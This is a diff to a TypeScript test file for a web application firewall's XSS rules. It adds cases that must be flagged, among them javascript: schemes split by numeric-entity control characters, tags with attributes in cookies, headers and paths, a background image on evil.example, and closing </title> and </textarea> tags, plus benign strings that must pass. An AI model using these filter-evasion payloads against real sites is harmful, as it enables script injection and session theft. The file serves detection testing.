@@ -73,6 +73,42 @@ describe('XSS findings on back-office and customer HTML (benign-browser.ndjson)'
   })
 })
 
+describe('a script scheme split by control characters', () => {
+  const query = (v: string): WafRequest => ({ method: 'GET', uri: `/search?q=${encodeURIComponent(v)}`, headers: { host: 'shop.example' } })
+
+  it('is still javascript: when numeric entities put C0 controls inside the scheme (java&#1&#2script:), as old WebKit read it', () => {
+    for (const v of ['<a href=java&#1&#2&#3script:next>x</a>', '<a href=java&#11;&#12;script:next>x</a>']) expect(rules(query(v)), v).toContain('waf.xss.script-url')
+  })
+
+  it('leaves a URL whose path holds script: and a sentence about Java alone', () => {
+    for (const v of ['<a href="https://java.example/script:1">x</a>', 'java script: the basics']) expect(rules(query(v)), v).toEqual([])
+  })
+})
+
+describe('markup where no markup belongs', () => {
+  const markup = '<IMG SRC="https://track.example/p.gif">'
+  const at = (where: 'cookie' | 'ua' | 'path' | 'query' | 'form' | 'json', v: string): WafRequest => {
+    const headers = { host: 'shop.example', 'user-agent': 'Mozilla/5.0', 'content-type': 'application/x-www-form-urlencoded' }
+    if (where === 'cookie') return { method: 'GET', uri: '/account', headers: { ...headers, cookie: `pref=${encodeURIComponent(v)}` } }
+    if (where === 'ua') return { method: 'GET', uri: '/', headers: { ...headers, 'user-agent': v } }
+    if (where === 'path') return { method: 'GET', uri: `/products/${encodeURIComponent(v)}`, headers }
+    if (where === 'query') return { method: 'GET', uri: `/search?q=${encodeURIComponent(v)}`, headers }
+    if (where === 'form') return { method: 'POST', uri: '/contact', headers, body: `message=${encodeURIComponent(v)}` }
+    return json('/api/cart', 'application/json', { note: v })
+  }
+
+  it('is injection in a cookie, a header or the path: a tag with an attribute, script or not (<IMG SRC=…>), a closing </title> or </textarea>, an IE conditional comment', () => {
+    for (const where of ['cookie', 'ua', 'path'] as const) {
+      for (const v of [markup, '<table background="https://evil.example/bg.png">', '</title>x', '</TEXTAREA >x', '<!--[if IE]>x<![endif]-->']) expect(rules(at(where, v)), `${where} ${v}`).toContain('waf.xss.markup-in-value')
+    }
+  })
+
+  it('is what people type and paste in a query, a form field or JSON, and a cookie with a < but no tag passes', () => {
+    for (const where of ['query', 'form', 'json'] as const) expect(rules(at(where, markup)), where).toEqual([])
+    for (const v of ['a<b', '{"rating":"<3"}', '3 < 4 = true', '<title>', '<!-- x -->']) expect(rules(at('cookie', v)), v).toEqual([])
+  })
+})
+
 describe('Internet Explorer markup that runs script', () => {
   it('<?import implementation=….htc> loads a behaviour; an XML declaration or stylesheet instruction is no tag', () => {
     expect(rules(review('<html xmlns:v><?import namespace="v" implementation="https://evil.example/b.htc"><v:x>hi</v:x></html>'))).toContain('waf.xss.script-tag')
